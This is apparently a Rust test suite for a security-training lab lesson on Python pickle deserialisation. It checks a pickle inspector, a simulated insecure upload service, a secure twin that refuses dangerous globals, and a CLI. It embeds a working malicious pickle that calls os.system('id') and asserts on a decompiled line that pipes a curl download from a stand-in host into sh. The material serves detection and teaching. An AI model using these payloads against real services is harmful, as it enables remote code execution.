//! Lesson `pickle`, "Pickles run code", and its inspector.
//!
//! The inspector on pickles made by real Python (`pickle/make_pickles.py`
//! in the venv: plain data at protocols 0–5, pandas frames, numpy arrays, an
//! sklearn-like class, malicious `__reduce__`s, out-of-band buffers, and
//! hand-made opcodes Python 3 no longer writes): its listing equals
//! `pickletools.dis` byte for byte, and it names the verdict, imports and
//! calls each was made to have. The lab: a pickle of one's own is "run" by
//! the insecure upload service (simulated, with made-up output), refused by
//! the secure twin with a 422 naming the global, which accepts allow-listed
//! weights, safetensors and JSON; every malicious test pickle is "run" by one
//! and refused by the other; each challenge is solved exactly when the lab
//! sees it. The CLI: the real binary's verdicts, JSON and exit codes.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use safelab_tests::program::{release_binary, run_to_end};
use safelab_tests::{Lab, repo_root, tool};
use safelab_tools::pickle::{Verdict, inspect};
use serde_json::Value;

const LESSON: &str = "pickle";

/// What `make_pickles.py` says each pickle must be.
#[derive(Debug)]
struct Expected {
    verdict: String,
    imports: Vec<String>,
    calls: Vec<String>,
}

/// Makes the test pickles with the venv's Python into a temporary folder.
fn make_pickles() -> (tempfile::TempDir, BTreeMap<String, Expected>) {
    let python = tool(
        "SAFELAB_PYTHON",
        repo_root().join(".local/venv/bin/python"),
        "the project's Python venv (with numpy and pandas)",
    );
    let folder = tempfile::tempdir().expect("a folder");
    let script = repo_root().join("tests/integration/pickle/make_pickles.py");
    let output = Command::new(python)
        .arg(&script)
        .arg(folder.path())
        .output()
        .expect("python runs");
    assert!(
        output.status.success(),
        "make_pickles.py failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let manifest: Value = serde_json::from_slice(
        &std::fs::read(folder.path().join("manifest.json")).expect("a manifest"),
    )
    .expect("JSON");
    let strings = |v: &Value| -> Vec<String> {
        v.as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|s| s.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default()
    };
    let expected = manifest
        .as_object()
        .expect("an object")
        .iter()
        .map(|(name, e)| {
            (
                name.clone(),
                Expected {
                    verdict: e["verdict"].as_str().unwrap_or_default().to_owned(),
                    imports: strings(&e["imports"]),
                    calls: strings(&e["calls"]),
                },
            )
        })
        .collect();
    (folder, expected)
}

fn read(folder: &Path, name: &str, ending: &str) -> Vec<u8> {
    std::fs::read(folder.join(format!("{name}.{ending}"))).expect("the file was made")
}

#[test]
fn the_listing_equals_pickletools_dis_and_the_verdicts_hold_on_real_pickles() {
    let (folder, expected) = make_pickles();
    assert!(expected.len() >= 40, "{} pickles", expected.len());
    let mut opcodes = std::collections::BTreeSet::new();
    for (name, want) in &expected {
        let bytes = read(folder.path(), name, "pkl");
        let dis = String::from_utf8(read(folder.path(), name, "dis")).expect("UTF-8");
        let report = inspect(&bytes);
        assert_eq!(report.error, None, "{name}");
        assert_eq!(
            report.dis(),
            dis,
            "{name}: the listing differs from pickletools.dis"
        );
        opcodes.extend(report.listing.iter().map(|op| op.name.clone()));
        let verdict = serde_json::to_value(report.verdict).expect("JSON");
        assert_eq!(verdict, want.verdict.as_str(), "{name}: {}", report.human());
        let imports: Vec<String> = report
            .imports
            .iter()
            .map(|i| format!("{}.{}", i.module, i.name))
            .collect();
        for import in &want.imports {
            assert!(
                imports.contains(import),
                "{name}: {import} not in {imports:?}"
            );
        }
        let calls: Vec<&str> = report.calls.iter().map(|c| c.callable.as_str()).collect();
        for call in &want.calls {
            assert!(
                calls.contains(&call.as_str()),
                "{name}: {call} not in {calls:?}"
            );
        }
        if report.verdict == Verdict::Dangerous {
            assert!(report.finding_count() > 0, "{name}");
        } else {
            assert_eq!(report.finding_count(), 0, "{name}");
        }
    }
    // Every opcode of protocols 0-5 appeared in some listing.
    assert_eq!(opcodes.len(), 68, "opcodes seen: {opcodes:?}");
    // What loading would do, as Python, for the two classic payloads.
    let system = inspect(&read(folder.path(), "os_system_proto2", "pkl"));
    assert!(
        system
            .python
            .contains("_1 = posix.system('curl http://example.invalid/x.sh | sh')"),
        "{}",
        system.python
    );
    let nested = inspect(&read(folder.path(), "nested_reduce", "pkl"));
    assert!(
        nested
            .python
            .contains("_2 = builtins.getattr(_1, 'system')\n_3 = _2('id')")
    );
}

#[test]
fn a_truncated_real_pickle_is_an_error_at_its_end_never_a_panic() {
    let (folder, _) = make_pickles();
    let frame = read(folder.path(), "pandas_frame_proto4", "pkl");
    for cut in (0..frame.len()).step_by(7) {
        let report = inspect(&frame[..cut]);
        let error = report.error.expect("an error");
        assert!(error.offset <= cut, "cut at {cut}: {error:?}");
        assert_eq!(report.verdict, Verdict::Malformed, "cut at {cut}");
    }
}

/// An answer's status and JSON body (or its text as a string).
async fn post(client: &reqwest::Client, url: &str, body: Vec<u8>, json: bool) -> (u16, Value) {
    let mut request = client.post(url).body(body);
    if json {
        request = request.header("content-type", "application/json");
    }
    let response = request.send().await.expect("the lab answers");
    let status = response.status().as_u16();
    let text = response.text().await.expect("a body");
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// `pickle.dumps` of a `__reduce__` returning `(os.system, ('id',))`, protocol 4.
const OWN_PAYLOAD: &[u8] = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";

/// A safetensors file with one float32 vector of four numbers.
fn safetensors() -> Vec<u8> {
    let header = br#"{"weights":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}"#;
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend_from_slice(header);
    file.extend_from_slice(&[0; 16]);
    file
}

#[tokio::test]
async fn the_insecure_service_runs_a_pickle_the_secure_one_refuses_it_by_name() {
    let lab = Lab::start().await;
    let plain = reqwest::Client::new();
    let tls = lab.trusting_client();
    let insecure = lab.http("/lab/insecure/models");
    let secure = lab.https("/lab/secure/models");

    // The lab's own model "runs" but does not count: the challenge wants yours.
    let model = plain
        .get(lab.http("/lab/pickle/churn_model.pkl"))
        .send()
        .await
        .expect("served")
        .bytes()
        .await
        .expect("bytes")
        .to_vec();
    assert_eq!(inspect(&model).verdict, Verdict::Dangerous);
    let (status, answer) = post(&plain, &insecure, model, false).await;
    assert_eq!(status, 200, "{answer}");
    assert!(
        answer["ran"][0]["call"]
            .as_str()
            .unwrap_or_default()
            .contains("posix.system")
    );
    // Nothing solved yet, the secure twin not even tried.
    let (status, _) = post(&tls, &secure, OWN_PAYLOAD.to_vec(), false).await;
    assert_eq!(status, 422);
    assert_eq!(lab.solved(LESSON).await, Vec::<String>::new());

    let (status, answer) = post(&plain, &insecure, OWN_PAYLOAD.to_vec(), false).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["ran"][0]["call"], "posix.system('id')");
    assert!(
        answer["ran"][0]["output"]
            .as_str()
            .unwrap_or_default()
            .starts_with("uid=1001(modelsvc)")
    );
    assert_eq!(lab.solved(LESSON).await, ["insecure-runs-pickle"]);

    let (status, refused) = post(&tls, &secure, OWN_PAYLOAD.to_vec(), false).await;
    assert_eq!(status, 422, "{refused}");
    assert_eq!(refused["global"], "posix.system");
    assert!(
        refused["error"]
            .as_str()
            .unwrap_or_default()
            .contains("posix.system")
    );
    assert_eq!(
        lab.solved(LESSON).await,
        ["insecure-runs-pickle", "secure-refuses-pickle"]
    );

    // Weights: plain data, an OrderedDict (protocol 2), safetensors, JSON.
    let ordered = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x01\x00\x00\x00wq\x02]q\x03(G?\xe0\x00\x00\x00\x00\x00\x00K\x01es.";
    let (status, loaded) = post(&tls, &secure, ordered.to_vec(), false).await;
    assert_eq!(status, 200, "{loaded}");
    assert_eq!(loaded["globals"][0], "collections.OrderedDict");
    let (status, loaded) = post(&tls, &secure, safetensors(), false).await;
    assert_eq!(status, 200, "{loaded}");
    assert_eq!(loaded["tensors"][0]["shape"][0], 4);
    let (status, _) = post(&tls, &secure, br#"{"w": [1, 2]}"#.to_vec(), true).await;
    assert_eq!(status, 200);
    assert_eq!(
        lab.solved(LESSON).await,
        [
            "insecure-runs-pickle",
            "secure-refuses-pickle",
            "secure-loads-weights",
            "safe-format"
        ]
    );

    // Broken files: a 400 on the secure twin, the bare 500 of pickle.loads on the insecure.
    let (status, broken) = post(&tls, &secure, ordered[..20].to_vec(), false).await;
    assert_eq!(status, 400, "{broken}");
    let (status, _) = post(&tls, &secure, b"{not json".to_vec(), true).await;
    assert_eq!(status, 400);
    let (status, crashed) = post(&plain, &insecure, b"\x80\x04garbage".to_vec(), false).await;
    assert_eq!(status, 500, "{crashed}");
    // Uploads are limited like every lab body: 64 KiB.
    let (status, _) = post(&tls, &secure, vec![b'N'; 70 * 1024], false).await;
    assert_eq!(status, 413);
    let (status, _) = post(&plain, &insecure, vec![b'N'; 70 * 1024], false).await;
    assert_eq!(status, 413);

    // A reset forgets what ran: the same refusal no longer solves anything.
    let reset = plain
        .post(lab.app(&format!("/api/progress/{LESSON}/reset")))
        .send()
        .await
        .expect("reset answers");
    assert!(reset.status().is_success(), "{}", reset.status());
    let (status, _) = post(&tls, &secure, OWN_PAYLOAD.to_vec(), false).await;
    assert_eq!(status, 422);
    assert_eq!(lab.solved(LESSON).await, Vec::<String>::new());
}

#[tokio::test]
async fn every_malicious_test_pickle_runs_on_the_insecure_twin_and_is_refused_by_the_secure() {
    let (folder, expected) = make_pickles();
    let lab = Lab::start().await;
    let plain = reqwest::Client::new();
    let tls = lab.trusting_client();
    let mut tried = 0;
    for (name, want) in &expected {
        let bytes = read(folder.path(), name, "pkl");
        if bytes.len() > 60_000 {
            continue;
        }
        let (status, answer) = post(
            &plain,
            &lab.http("/lab/insecure/models"),
            bytes.clone(),
            false,
        )
        .await;
        assert_eq!(status, 200, "{name}: {answer}");
        let (status, answer) = post(&tls, &lab.https("/lab/secure/models"), bytes, false).await;
        if want.verdict == "dangerous" {
            tried += 1;
            assert_eq!(status, 422, "{name}: {answer}");
            assert!(
                answer["global"].as_str().is_some_and(|g| !g.is_empty()),
                "{name}"
            );
        } else if want.verdict == "data" || name.starts_with("numpy_array") {
            assert_eq!(status, 200, "{name}: {answer}");
        } else if name.starts_with("pandas") {
            // pandas is not on the allow-list: its classes run pandas' code.
            assert_eq!(status, 422, "{name}: {answer}");
        }
    }
    assert!(tried >= 12, "{tried} malicious pickles");
}

#[tokio::test]
async fn the_tools_page_offers_the_lessons_three_pickles() {
    let lab = Lab::start().await;
    for (name, verdict) in [
        ("churn_model.pkl", Verdict::Dangerous),
        ("weights.pkl", Verdict::Data),
        ("sales_frame.pkl", Verdict::Objects),
    ] {
        let bytes = reqwest::get(lab.app(&format!("/api/tools/examples/{name}")))
            .await
            .expect("served")
            .bytes()
            .await
            .expect("bytes");
        assert_eq!(inspect(&bytes).verdict, verdict, "{name}");
    }
}

/// The `safelab pickle` command on files and a folder.
#[test]
fn the_cli_gives_verdicts_json_and_exit_codes() {
    let binary: PathBuf = release_binary();
    let folder = tempfile::tempdir().expect("a folder");
    let models = folder.path().join("models");
    std::fs::create_dir(&models).expect("mkdir");
    std::fs::write(models.join("evil.pkl"), OWN_PAYLOAD).expect("write");
    std::fs::write(models.join("notes.txt"), "not a pickle, not read").expect("write");
    let clean = folder.path().join("clean.pkl");
    std::fs::write(&clean, b"\x80\x04K\x01.").expect("write");
    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();

    let output = run_to_end(&binary, &["pickle", &path(&clean)]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(String::from_utf8_lossy(&output.stdout).contains("verdict: DATA"));

    let output = run_to_end(&binary, &["pickle", "--dis", &path(&models)]);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.starts_with("== "), "{text}");
    assert!(text.contains("verdict: DANGEROUS"), "{text}");
    assert!(text.contains("_1 = posix.system('id')"), "{text}");
    assert!(text.contains("    0: \\x80 PROTO      4"), "{text}");
    assert!(!text.contains("notes.txt"), "{text}");

    let output = run_to_end(
        &binary,
        &["pickle", "--json", &path(&clean), &path(&models)],
    );
    assert_eq!(output.status.code(), Some(1));
    let reports: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(reports[0]["verdict"], "data");
    assert_eq!(reports[1]["verdict"], "dangerous");
    assert_eq!(reports[1]["imports"][0]["module"], "posix");

    let output = run_to_end(
        &binary,
        &["pickle", &path(&folder.path().join("missing.pkl"))],
    );
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("missing.pkl"));
}
